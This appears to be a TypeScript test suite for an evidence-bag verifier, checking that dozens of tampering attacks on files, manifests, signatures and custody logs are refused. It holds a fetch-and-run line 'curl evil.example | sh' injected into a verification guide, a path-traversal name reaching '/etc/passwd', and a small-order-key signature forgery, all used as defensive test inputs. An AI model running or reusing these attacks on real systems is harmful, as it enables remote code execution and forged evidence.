import { describe, expect, it } from 'vitest';
import { type BagInput, buildBag } from '../../../utils/evidence/bag';
import { bagitText } from '../../../utils/evidence/bag-info';
import { concatBytes, toBase64 } from '../../../utils/evidence/bytes';
import { canonical } from '../../../utils/evidence/canonical';
import { signCheckpoint } from '../../../utils/evidence/checkpoint';
import type { BagRefusal } from '../../../utils/evidence/verdict';
import { verifyBag } from '../../../utils/evidence/verify-bag';
import { sampleInput, sampleItem, sampleLog, sampleSender } from './sample-bag';
import { type Files, rewriteLists, rewriteTags, set, signAgain, text } from './sign-again';

/** An attacker's bag: what she changes, and which of the covering lists she brings back in order. */
interface Attack {
  name: string;
  /** `lists`: both manifests are written again. `signed`: also checkpoint and signatures, by the real sender's key. */
  repair?: 'nothing' | 'lists' | 'signed';
  change(files: Files, world: { input: BagInput; flag: string; capture: string; folder: string }): void | Promise<void>;
  refused: BagRefusal;
  where: RegExp | string;
}

const replace = (files: Files, path: string, from: string | RegExp, to: string) => {
  const before = text(files, path);
  const after = before.replace(from, to);
  expect(after, `the attack on ${path} does something`).not.toBe(before);
  set(files, path, after);
};
const edit = (files: Files, path: string, change: (record: Record<string, unknown>) => void) => {
  const record = JSON.parse(text(files, path)) as Record<string, unknown>;
  change(record);
  set(files, path, canonical(record));
};
const swapLines = (files: Files, path: string, a: number, b: number) => {
  const lines = text(files, path).split('\n');
  [lines[a], lines[b]] = [lines[b] ?? '', lines[a] ?? ''];
  set(files, path, lines.join('\n'));
};
const someone = 'age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p';

const attacks: Attack[] = [
  // Files
  {
    name: 'a file planted beside the evidence',
    change: (f) => void set(f, 'data/extra.exe', 'x'),
    refused: 'unknown-file',
    where: 'data/extra.exe',
  },
  {
    name: 'a path that climbs out',
    change: (f) => void set(f, 'data/../../etc/passwd', 'x'),
    refused: 'unknown-file',
    where: /etc/,
  },
  {
    name: 'a plausible file planted',
    change: (f, w) => void set(f, `${w.folder}/media-7.jpg`, 'x'),
    refused: 'planted-file',
    where: /media-7\.jpg$/,
  },
  {
    name: 'a plausible file planted and listed',
    repair: 'signed',
    change: (f, w) => void set(f, `${w.folder}/media-7.jpg`, 'x'),
    refused: 'planted-file',
    where: /media-7\.jpg$/,
  },
  {
    name: 'a whole capture planted and listed',
    repair: 'signed',
    change: (f, w) => void set(f, `data/${w.flag}/${crypto.randomUUID()}/capture.json`, '{}'),
    refused: 'planted-file',
    where: /capture\.json$/,
  },
  {
    name: 'a kept file removed',
    change: (f, w) => void f.delete(`${w.folder}/image.png`),
    refused: 'missing-file',
    where: /image\.png$/,
  },
  {
    name: 'a kept file removed from the lists too',
    repair: 'signed',
    change: (f, w) => void f.delete(`${w.folder}/image.png`),
    refused: 'missing-file',
    where: /image\.png$/,
  },
  {
    name: 'the capture removed',
    repair: 'signed',
    change: (f, w) => void f.delete(`${w.folder}/capture.json`),
    refused: 'missing-file',
    where: /capture\.json$/,
  },
  {
    name: 'the review removed',
    repair: 'signed',
    change: (f, w) => void f.delete(`data/${w.flag}/review.json`),
    refused: 'missing-file',
    where: /review\.json$/,
  },
  {
    name: 'the readable post removed',
    repair: 'signed',
    change: (f, w) => void f.delete(`${w.folder}/post.json`),
    refused: 'missing-file',
    where: /post\.json$/,
  },
  {
    name: 'the log removed',
    change: (f) => void f.delete('proof/custody.jsonl'),
    refused: 'missing-file',
    where: 'proof/custody.jsonl',
  },
  {
    name: 'the signature removed',
    repair: 'lists',
    change: (f) => void f.delete('proof/checkpoint.txt.sshsig'),
    refused: 'missing-file',
    where: 'proof/checkpoint.txt.sshsig',
  },
  {
    name: 'one byte of the image',
    change: (f, w) => void replaceByte(f, `${w.folder}/image.png`),
    refused: 'hash-mismatch',
    where: /image\.png$/,
  },
  {
    name: 'one byte of the image, the lists repaired',
    repair: 'lists',
    change: (f, w) => void replaceByte(f, `${w.folder}/image.png`),
    refused: 'other-checkpoint',
    where: 'proof/checkpoint.txt',
  },
  {
    name: 'one byte of the image, signed again',
    repair: 'signed',
    change: (f, w) => void replaceByte(f, `${w.folder}/image.png`),
    refused: 'record-mismatch',
    where: /image\.png$/,
  },
  {
    name: 'two files swapped, signed again',
    repair: 'signed',
    change: (f, w) => swapFiles(f, `${w.folder}/image.png`, `${w.folder}/media-0.jpg`),
    refused: 'record-mismatch',
    where: /image\.png$/,
  },
  {
    name: 'other words in text.txt',
    repair: 'signed',
    change: (f, w) => void set(f, `${w.folder}/text.txt`, 'something else'),
    refused: 'record-mismatch',
    where: /text\.txt$/,
  },
  {
    name: 'other words in post.json',
    repair: 'signed',
    change: (f, w) => edit(f, `${w.folder}/post.json`, (p) => Object.assign(p, { text: 'other' })),
    refused: 'record-mismatch',
    where: /post\.json$/,
  },
  // Lists
  {
    name: 'a listed hash changed',
    change: (f) => replace(f, 'manifest-sha256.txt', /^./, 'g'),
    refused: 'hash-mismatch',
    where: 'manifest-sha256.txt',
  },
  {
    name: 'a file listed twice',
    repair: 'nothing',
    change: async (f) => {
      set(f, 'manifest-sha256.txt', text(f, 'manifest-sha256.txt').replace(/^.*\n/, '$&$&'));
      await rewriteTags(f);
    },
    refused: 'malformed',
    where: 'manifest-sha256.txt',
  },
  {
    name: 'a line taken from the list',
    repair: 'nothing',
    change: async (f) => {
      replace(f, 'manifest-sha256.txt', /^.*\n/, '');
      await rewriteTags(f);
    },
    refused: 'planted-file',
    where: /^data\//,
  },
  {
    name: 'a tag file unlisted',
    change: (f) => replace(f, 'tagmanifest-sha256.txt', /^.*bag-info\.txt\n/m, ''),
    refused: 'planted-file',
    where: 'bag-info.txt',
  },
  // Versions and tags
  {
    name: 'a later BagIt',
    repair: 'lists',
    change: (f) => void set(f, 'bagit.txt', bagitText.replace('1.0', '2.0')),
    refused: 'unknown-version',
    where: 'bagit.txt',
  },
  {
    name: 'a later bag version',
    repair: 'signed',
    change: (f) => replace(f, 'bag-info.txt', 'Version: 1', 'Version: 3'),
    refused: 'unknown-version',
    where: 'bag-info.txt',
  },
  {
    name: 'a bag version for steps taken back, where none was',
    repair: 'signed',
    change: (f) => replace(f, 'bag-info.txt', 'Version: 1', 'Version: 2'),
    refused: 'malformed',
    where: 'bag-info.txt',
  },
  {
    name: 'a line added to bag-info',
    repair: 'signed',
    change: (f) => replace(f, 'bag-info.txt', /$/, 'Contact: me\n'),
    refused: 'malformed',
    where: 'bag-info.txt',
  },
  {
    name: 'the reply redirected',
    repair: 'lists',
    change: (f) => replace(f, 'bag-info.txt', /age1.*/, someone),
    refused: 'other-checkpoint',
    where: 'proof/checkpoint.txt',
  },
  {
    name: 'the size misstated',
    repair: 'signed',
    change: (f) => replace(f, 'bag-info.txt', /Oxum: \d+/, 'Oxum: 1'),
    refused: 'wrong-size',
    where: 'bag-info.txt',
  },
  {
    name: 'evidence called a test',
    repair: 'signed',
    change: (f) => replace(f, 'bag-info.txt', 'Purpose: flags', 'Purpose: test'),
    refused: 'wrong-purpose',
    where: 'bag-info.txt',
  },
  {
    name: 'commands of somebody else in the guide',
    repair: 'signed',
    change: (f) => replace(f, 'HOW-TO-VERIFY.txt', 'sha256sum', 'curl evil.example | sh; sha256sum'),
    refused: 'unknown-guide',
    where: 'HOW-TO-VERIFY.txt',
  },
  {
    name: 'a later checkpoint version',
    repair: 'lists',
    change: (f) => resignWith(f, /^athar-checkpoint-1/, 'athar-checkpoint-2'),
    refused: 'unknown-version',
    where: 'proof/checkpoint.txt',
  },
  {
    name: 'a later capture version',
    repair: 'signed',
    change: (f, w) => edit(f, `${w.folder}/capture.json`, (c) => Object.assign(c, { v: 2 })),
    refused: 'unknown-version',
    where: /capture\.json$/,
  },
  {
    name: 'a later log version',
    repair: 'signed',
    change: (f) => replace(f, 'proof/custody.jsonl', '"v":1', '"v":2'),
    refused: 'unknown-version',
    where: 'proof/custody.jsonl line 1',
  },
  // Keys
  {
    name: 'an RSA key',
    repair: 'lists',
    change: (f) =>
      void set(
        f,
        'proof/device-pub.pem',
        '-----BEGIN PUBLIC KEY-----\nMFwwDQYJKoZIhvcNAQEBBQADSwAwSAJBAK\n-----END PUBLIC KEY-----\n',
      ),
    refused: 'weak-key',
    where: 'proof/device-pub.pem',
  },
  {
    name: 'a key of small order',
    repair: 'lists',
    change: (f) => weakenKey(f),
    refused: 'bad-signature',
    where: 'proof/checkpoint.txt.sshsig',
  },
  {
    name: 'a second allowed signer',
    repair: 'lists',
    change: (f) => replace(f, 'proof/allowed_signers', /$/, 'other ssh-ed25519 AAAA\n'),
    refused: 'key-mismatch',
    where: 'proof/allowed_signers',
  },
  {
    name: 'a signature by another key',
    repair: 'lists',
    change: async (f) => {
      const { sender } = await sampleSender();
      f.set(
        'proof/checkpoint.txt.sshsig',
        (await signCheckpoint(text(f, 'proof/checkpoint.txt'), sender)).get('proof/checkpoint.txt.sshsig') ??
          new Uint8Array(),
      );
    },
    refused: 'key-mismatch',
    where: 'proof/checkpoint.txt.sshsig',
  },
  {
    name: 'signed again by another key, all key files with it',
    repair: 'lists',
    change: async (f) => {
      const { sender } = await sampleSender();
      for (const [p, b] of await signCheckpoint(text(f, 'proof/checkpoint.txt'), sender)) f.set(p, b);
    },
    refused: 'event-mismatch',
    where: /^proof\/events\.jsonl seq/,
  },
  {
    name: 'one bit of the raw signature',
    repair: 'lists',
    change: (f) => replaceByte(f, 'proof/checkpoint.txt.sig'),
    refused: 'bad-signature',
    where: 'proof/checkpoint.txt.sig',
  },
  {
    name: 'the armour spelled otherwise',
    repair: 'lists',
    change: (f) => replace(f, 'proof/checkpoint.txt.sshsig', /\n-----END/, '\n\n-----END'),
    refused: 'malformed',
    where: 'proof/checkpoint.txt.sshsig',
  },
  {
    name: 'the head changed, not signed',
    repair: 'lists',
    change: (f) =>
      replace(
        f,
        'proof/checkpoint.txt',
        /head ./,
        text(f, 'proof/checkpoint.txt').includes('head f') ? 'head 0' : 'head f',
      ),
    refused: 'bad-signature',
    where: 'proof/checkpoint.txt.sshsig',
  },
  // Log
  {
    name: 'an entry dropped',
    repair: 'signed',
    change: (f) => replace(f, 'proof/custody.jsonl', /(.*\n)(.*\n)/, '$1'),
    refused: 'chain-broken',
    where: 'proof/custody.jsonl seq 2',
  },
  {
    name: 'two entries reordered',
    repair: 'signed',
    change: (f) => swapLines(f, 'proof/custody.jsonl', 2, 3),
    refused: 'chain-broken',
    where: 'proof/custody.jsonl seq 3',
  },
  {
    name: 'an entry edited',
    repair: 'signed',
    change: (f) => replace(f, 'proof/custody.jsonl', /(.*\n)("?\{"commit":")[0-9a-f]{8}/, '$1$200000000'),
    refused: 'event-mismatch',
    where: 'proof/events.jsonl seq 2',
  },
  {
    name: 'the last entries cut off',
    repair: 'lists',
    change: (f) => replace(f, 'proof/custody.jsonl', /.*\n$/, ''),
    refused: 'other-checkpoint',
    where: 'proof/checkpoint.txt',
  },
  {
    name: 'spaces in a line of the log',
    repair: 'signed',
    change: (f) => replace(f, 'proof/custody.jsonl', '":', '": '),
    refused: 'malformed',
    where: 'proof/custody.jsonl line 1',
  },
  {
    name: 'the time of an event moved',
    repair: 'signed',
    change: (f) => replace(f, 'proof/events.jsonl', '2026-11-23T18:40', '2026-11-23T17:40'),
    refused: 'event-mismatch',
    where: 'proof/events.jsonl seq 2',
  },
  {
    name: 'the event of the capture withheld',
    repair: 'signed',
    change: (f) => replace(f, 'proof/events.jsonl', /^.*\n/, ''),
    refused: 'no-custody-event',
    where: /capture\.json$/,
  },
  {
    name: 'an event without an entry',
    repair: 'signed',
    change: (f) => replace(f, 'proof/events.jsonl', /"seq":8\}\n$/, '"seq":99}\n'),
    refused: 'event-mismatch',
    where: 'proof/events.jsonl seq 99',
  },
  {
    name: 'events out of order',
    repair: 'signed',
    change: (f) => swapLines(f, 'proof/events.jsonl', 0, 1),
    refused: 'malformed',
    where: 'proof/events.jsonl line 2',
  },
  // Records
  {
    name: 'the author changed, signed again',
    repair: 'signed',
    change: (f, w) =>
      edit(f, `${w.folder}/capture.json`, (c) => Object.assign(c.post as object, { platform: 'facebook' })),
    refused: 'no-custody-event',
    where: /capture\.json$/,
  },
  {
    name: 'an unknown field in a capture',
    repair: 'signed',
    change: (f, w) => edit(f, `${w.folder}/capture.json`, (c) => Object.assign(c, { key: 'secret' })),
    refused: 'bad-record',
    where: /capture\.json$/,
  },
  {
    name: 'the review of another flag',
    repair: 'signed',
    change: (f, w) => edit(f, `data/${w.flag}/review.json`, (r) => Object.assign(r, { flag: crypto.randomUUID() })),
    refused: 'record-mismatch',
    where: /review\.json$/,
  },
  {
    name: 'a review that is no JSON',
    repair: 'signed',
    change: (f, w) => void set(f, `data/${w.flag}/review.json`, '{'),
    refused: 'malformed',
    where: /review\.json$/,
  },
];

describe('a bag that was tampered with', () => {
  it.each(attacks)('is refused: $name', async (attack) => {
    const input = await sampleInput([await sampleItem()]);
    const more = await sampleInput([await sampleItem(), ...input.items]);
    const files: Files = await buildBag(more);
    const flag = more.items[0]?.flag.id ?? '';
    const capture = more.items[0]?.captures[0]?.capture.id ?? '';
    await attack.change(files, { input: more, flag, capture, folder: `data/${flag}/${capture}` });
    if (attack.repair === 'signed') await signAgain(files, more.sender);
    if (attack.repair === 'lists') await rewriteLists(files);
    const verdict = await verifyBag(files);
    expect(verdict).toMatchObject({ verdict: 'refused', reason: attack.refused });
    if (verdict.verdict === 'refused') expect(verdict.where).toMatch(attack.where);
  });

  it.each(['item.sent', 'key.created'])('is refused for an event of the log that is not its own: %s', async (type) => {
    const items = [await sampleItem()];
    const { entries, events, all } = await sampleLog(items);
    const input = { ...(await sampleInput(items)), custody: entries, events };
    const files: Files = await buildBag(input);
    const own = text(files, 'proof/events.jsonl')
      .split('\n')
      .filter(Boolean)
      .map((line) => JSON.parse(line) as { seq: number });
    const [seq, event] = Object.entries(all).find(([, one]) => one.type === type)!;
    const lines = [...own, { seq: Number(seq), event }].sort((a, b) => a.seq - b.seq);
    set(files, 'proof/events.jsonl', lines.map((line) => `${canonical(line)}\n`).join(''));
    await signAgain(files, input.sender);
    const where = `proof/events.jsonl seq ${seq}`;
    expect(await verifyBag(files)).toEqual({ verdict: 'refused', reason: 'foreign-event', where });
  });

  it('is not refused for being written anew without a change', async () => {
    const input = await sampleInput();
    const files: Files = await buildBag(input);
    await signAgain(files, input.sender);
    expect((await verifyBag(files)).verdict).toBe('accepted');
  });
});

function replaceByte(files: Files, path: string): void {
  const bytes = Uint8Array.from(files.get(path) ?? []);
  bytes[bytes.length - 1] = (bytes.at(-1) ?? 0) ^ 1;
  files.set(path, bytes);
}

function swapFiles(files: Files, a: string, b: string): void {
  const [one, two] = [files.get(a), files.get(b)];
  if (one && two) files.set(a, two).set(b, one);
}

async function resignWith(files: Files, from: RegExp, to: string): Promise<void> {
  const changed = text(files, 'proof/checkpoint.txt').replace(from, to);
  const { sender } = await sampleSender();
  // Another key would be refused for its events; an empty log has none.
  set(files, 'proof/events.jsonl', '');
  for (const [path, bytes] of await signCheckpoint(changed, sender)) files.set(path, bytes);
}

async function weakenKey(files: Files): Promise<void> {
  const weak = new Uint8Array(32).with(0, 1);
  // With A the identity, R = B and s = 1 satisfy s·B = R + k·A for every text.
  const base = Uint8Array.from({ length: 32 }, (_, i) => (i === 0 ? 0x58 : 0x66));
  const sign = async () => concatBytes(base, new Uint8Array(32).with(0, 1));
  for (const [path, bytes] of await signCheckpoint(text(files, 'proof/checkpoint.txt'), { publicKey: weak, sign })) {
    files.set(path, bytes);
  }
  expect(toBase64(weak)).toHaveLength(44);
}
